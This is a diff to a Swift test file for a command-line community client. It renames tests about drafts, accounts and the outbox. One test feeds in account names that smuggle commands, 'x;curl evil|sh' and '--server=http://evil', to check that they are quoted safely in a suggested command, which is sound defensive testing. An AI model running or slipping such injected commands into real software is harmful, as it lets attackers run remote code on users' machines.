@@ -43,7 +43,7 @@ import TextCore
         #expect(await app.run("drafts", "send", "1", "--here").out == "Created comment 1.\n")
     }
 
-    @Test func `A draft of one account is not another's`() async throws {
+    @Test func `A draft of one account does not belong to another`() async throws {
         let app = try await TestApp.signedUp("민수")
         #expect(await app.run(lost).code == .failure)
         await app.signUp("meng")
@@ -66,7 +66,7 @@ import TextCore
         ("x;curl evil|sh", "signin 'x;curl evil|sh'"),
         ("--server=http://evil", "signin -- --server=http://evil"),
     ])
-    func `What another server calls an account is one word of the suggested command`(
+    func `An account name of another server is one word of the suggested command`(
         name: String, command: String
     ) {
         let run = Run(
@@ -76,7 +76,7 @@ import TextCore
         #expect(run.commandLine("outbox list", at: place) == "community-cli \(command)")
     }
 
-    @Test func `A draft of an older version is only used where that is meant`() async throws {
+    @Test func `Uses a draft of an older app version only with --here`() async throws {
         let app = try await TestApp.signedUp()
         try app.write("Old", to: ".local/share/trellis/community/drafts/default/3.post.md")
         for folder in ["", "/default"] {
@@ -96,7 +96,7 @@ import TextCore
         #expect(await app.run("drafts", "send", "3", "--here").out == "Created post 1.\n")
     }
 
-    @Test func `The outbox names the other places where something waits`() async throws {
+    @Test func `The outbox names the other places with waiting writes`() async throws {
         let app = try await TestApp.signedUp()
         _ = await app.run("post", "create", "Offline", transport: Unreachable())
         await app.signUp("yuna")
